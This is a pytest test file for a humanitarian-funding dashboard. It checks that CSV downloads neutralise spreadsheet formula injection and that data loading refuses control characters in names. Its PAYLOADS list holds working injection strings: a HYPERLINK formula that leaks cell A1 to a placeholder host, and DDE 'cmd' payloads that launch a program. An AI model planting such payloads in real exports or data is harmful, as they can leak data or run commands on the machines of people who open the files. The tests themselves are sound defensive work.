"""Downloads cannot carry a formula into a spreadsheet, and names with control characters are refused."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from dashboard import data, exports
from dashboard.safety import neutralise
from dashboard.views import common, feed

# What an attacker would put in a donor name (or a field office in a label).
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Italy", "", "'=already quoted", "Côte d’Ivoire", "Mali 2021 = good", "a-b"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-6500, -0.5, 0, 586167, np.int64(-3), np.float64(-1.25), None, True])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(line for line in io.StringIO(text) if not line.startswith("#")))


def test_csv_text_neutralises_every_text_cell_and_keeps_negative_numbers(ds):
    # A CR cannot reach a download (the data check refuses control characters in names).
    payloads = [p for p in PAYLOADS if "\r" not in p]
    download = common.Download(
        filename="x.csv",
        columns=("donor", "amount"),
        rows=tuple((p, -100) for p in payloads),
        source_ids=("unhcr_page_2021_mli",),
    )
    header, *rows = _cells(exports.csv_bytes(ds, download, "en").decode("utf-8"))
    assert header == ["Donor", "amount"]  # a column without words keeps its id
    assert [r[0] for r in rows] == ["'" + p for p in payloads]
    assert {r[1] for r in rows} == {"-100"}


def test_feed_download_with_hostile_donor_names(data_copy, select):
    path = data_copy / "contributions.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header, body = lines[0], lines[1:]
    hostile = []
    for payload, line in zip(PAYLOADS[:4] + PAYLOADS[6:], body, strict=False):
        cells = next(csv.reader([line]))
        cells[2] = payload
        out = io.StringIO()
        csv.writer(out, lineterminator="").writerow(cells)
        hostile.append(out.getvalue())
    path.write_text("\n".join([header, *hostile, *body[len(hostile) :]]) + "\n", encoding="utf-8")
    ds = data.load(data_copy)
    years = sorted(set(ds.contributions["year"]))
    donors = []
    for year in years:
        view = feed.build(ds, select(f"year={year}"))
        donors += [r[2] for r in _cells(exports.csv_bytes(ds, view.download, "en").decode("utf-8"))[1:]]
    assert sorted(d for d in donors if d.startswith("'")) == sorted("'" + p for p in PAYLOADS[:4] + PAYLOADS[6:])
    assert not any(d[0] in "=+-@＝" for d in donors)


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f", "\u0085", "\u202e", "\r"])
def test_control_characters_in_names_are_refused(data_copy, char):
    path = data_copy / "contributions.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    cells = next(csv.reader([lines[1]]))
    assert cells[2] == "Italy"
    cells[2] = f"It{char}aly"
    out = io.StringIO()
    csv.writer(out, lineterminator="", quoting=csv.QUOTE_ALL).writerow(cells)
    path.write_text("\n".join([lines[0], out.getvalue(), *lines[2:]]) + "\n", encoding="utf-8")
    with pytest.raises(data.DataError) as err:
        data.load(data_copy)
    (line,) = [p for p in err.value.problems if "contributions.csv" in p]
    assert "line 2, field 'donor'" in line
    assert f"found U+{ord(char):04X} at character 3" in line
    assert char not in line


def test_control_characters_in_labels_are_refused(data_copy):
    path = data_copy / "key_figures.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    cells = next(csv.reader([lines[1]]))
    cells[5] = "Label\x00with NUL"
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    path.write_text("\n".join([lines[0], out.getvalue(), *lines[2:]]) + "\n", encoding="utf-8")
    with pytest.raises(data.DataError) as err:
        data.load(data_copy)
    assert any("key_figures.csv: line 2, field 'label_en'" in p and "U+0000" in p for p in err.value.problems)
